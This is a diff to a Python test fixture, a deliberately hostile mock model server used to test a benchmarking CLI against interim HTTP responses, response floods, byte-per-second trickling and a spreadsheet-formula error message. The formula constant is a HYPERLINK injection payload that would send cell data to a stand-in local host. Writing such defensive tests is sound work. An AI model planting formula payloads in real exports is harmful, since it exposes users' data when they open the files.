@@ -8,6 +8,7 @@ It runs on its own thread and loop, so the CLI under test is a separate process,
 from __future__ import annotations
 
 import asyncio
+import json
 import threading
 from collections.abc import Iterator
 from contextlib import contextmanager
@@ -21,6 +22,10 @@ REQUEST_BEHAVIOURS = (
     "http500",  # every request fails with HTTP 500
     "escape_error",  # HTTP 500 whose body is terminal escape sequences
     "huge_event",  # one SSE event of 64 MiB without a blank line
+    "continue_100",  # a `100 Continue` before the response (issue 29.2: was a stall on every request)
+    "early_hints_103",  # two `103 Early Hints` (with Link headers) before the response
+    "interim_flood",  # interim responses without end: fails as malformed, bounded
+    "formula_error",  # an in-stream error whose message is a spreadsheet formula (issue 29.8)
 )
 CONTROL_BEHAVIOURS = (
     "info_huge",  # /server_info streams 200 MB
@@ -28,6 +33,7 @@ CONTROL_BEHAVIOURS = (
     "info_nested",  # /server_info nested 100,000 deep
     "info_redirect",  # /server_info redirects to another origin
     "info_escapes",  # /server_info and /v1/models carry terminal escapes (JSON \\u001b) in version and model names
+    "info_trickle",  # every control-plane answer trickles one byte a second (issue 29.2: held bench 302 s)
 )
 BEHAVIOURS = REQUEST_BEHAVIOURS + CONTROL_BEHAVIOURS
 
@@ -37,6 +43,8 @@ INFO_ESCAPES = (
     ' "internal_states": [{"avg_spec_accept_length": 2.0}], "tp_size": 1,'
     ' "served_model_name": "x\\u0000y", "\\u001b[1mkey": "v"}'
 )
+FORMULA = '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"click")'
+"""A server's error text that a spreadsheet would run."""
 MODELS_ESCAPES = '{"data": [{"id": "model\\u001b[31m\\u0007", "owned_by": "sglang\\u001b"}]}'
 
 
@@ -122,8 +130,19 @@ class HostileServer:
             w.write(b"HTTP/1.1 500 Internal Server Error\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
             await w.drain()
             return True
+        if b == "continue_100":
+            w.write(b"HTTP/1.1 100 Continue\r\n\r\n")
+        elif b == "early_hints_103":
+            w.write(b"HTTP/1.1 103 Early Hints\r\nLink: </a.css>; rel=preload\r\n\r\n" * 2)
+        elif b == "interim_flood":
+            for _ in range(1000):
+                w.write(b"HTTP/1.1 103 Early Hints\r\nLink: </a.css>; rel=preload\r\n\r\n")
+        await w.drain()
         w.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
-        if b == "huge_count":
+        if b == "formula_error":  # an in-stream error event: its message becomes the sample's whole detail
+            error = json.dumps({"error": {"message": FORMULA}}).encode()
+            w.write(_chunk(b"data: " + error + b"\n\n") + _chunk(b"data: [DONE]\n\n") + b"0\r\n\r\n")
+        elif b == "huge_count":
             w.write(_event(1) + _event(10**20))
         elif b == "digits_count":
             w.write(_event(1) + _chunk(b'data: {"meta_info":{"completion_tokens":' + b"7" * 5000 + b"}}\n\n"))
@@ -157,6 +176,14 @@ class HostileServer:
 
     async def _control(self, path: str, w: asyncio.StreamWriter) -> bool:
         b = self.behaviour
+        if b == "info_trickle":
+            body = b'{"version": "0.5", "tp_size": 1}' + b" " * 600
+            w.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body))
+            for i in range(len(body)):  # one byte a second, at most 10 minutes: the client must give up first
+                w.write(body[i : i + 1])
+                await w.drain()
+                await asyncio.sleep(1.0)
+            return True
         if b == "info_redirect" and path != "/metrics":
             where = f"http://127.0.0.1:{self.other_port}/server_info"
             w.write(f"HTTP/1.1 302 Found\r\nLocation: {where}\r\nContent-Length: 0\r\n\r\n".encode())
